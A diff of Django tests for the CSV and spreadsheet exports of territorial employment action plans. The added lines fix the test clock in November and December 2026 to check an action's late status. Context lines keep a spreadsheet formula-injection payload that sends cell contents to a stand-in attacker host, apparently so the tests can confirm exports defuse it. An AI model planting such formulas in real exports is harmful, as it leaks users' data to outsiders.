@@ -12,6 +12,7 @@ from django.urls import reverse
 from openpyxl import load_workbook
 
 from emploi_territoires.plans.exports import plan_actions_sheet
+from tests.clock import paris
 from tests.factories import nevers, saint_etienne
 from tests.plans.test_reporting_helpers import declare_need, haut_nivernais_plan
 
@@ -21,7 +22,9 @@ FORMULA = '=HYPERLINK("http://pirate.example/?x="&A1;"Cliquez ici")'
 
 
 @pytest.fixture
-def scenario(db):
+def scenario(db, time_machine):
+    # Mid-November 2026: the mentoring cohort (May–November) is under way and not late yet.
+    time_machine.move_to(paris(2026, 11, 16))
     return haut_nivernais_plan()
 
 
@@ -142,3 +145,11 @@ def test_national_exports_list_plans_and_gaps(client, staff, scenario):
     saint_etienne()  # the région Auvergne-Rhône-Alpes exists, with no need declared
     empty = client.get(reverse("plans:national_export", args=["territoires-sans-action", "csv"]), {"region": "84"})
     assert len(_csv_rows(empty.content)) == 1  # headers only: no gap in Auvergne-Rhône-Alpes
+
+
+def test_an_action_past_its_end_is_late_the_next_morning(client, scenario, time_machine):
+    # The mentoring cohort ends on 30 November 2026; on 1 December it is late, whatever day the suite runs.
+    time_machine.move_to(paris(2026, 12, 1, 8, 0))
+    client.force_login(scenario.apec.contact)
+    header, *rows = _csv_rows(client.get(reverse("plans:plan_export", args=[scenario.plan.pk, "csv"])).content)
+    assert rows[1][:4] == ["Cohorte de mentorat des jeunes diplômés", "Cohorte de mentorat", "En cours", "Oui"]
